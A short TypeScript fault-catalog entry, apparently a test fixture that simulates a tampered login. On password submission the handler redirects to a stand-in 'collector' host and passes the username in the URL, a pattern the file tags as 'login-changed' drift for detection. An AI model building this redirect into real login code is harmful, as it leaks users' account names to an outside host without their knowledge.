import type { FaultFile } from './catalog.ts';
import { collector, leadOn, withLoginAnswers } from './collector.ts';

export default {
  what: 'the login leads to another host with the name of the account',
  handlers: withLoginAnswers((form) =>
    form.has('password')
      ? leadOn(302, `${collector}/?${new URLSearchParams({ of: form.get('username') ?? '' })}`)
      : null,
  ),
  drift: { class: 'login-changed' },
} satisfies FaultFile;
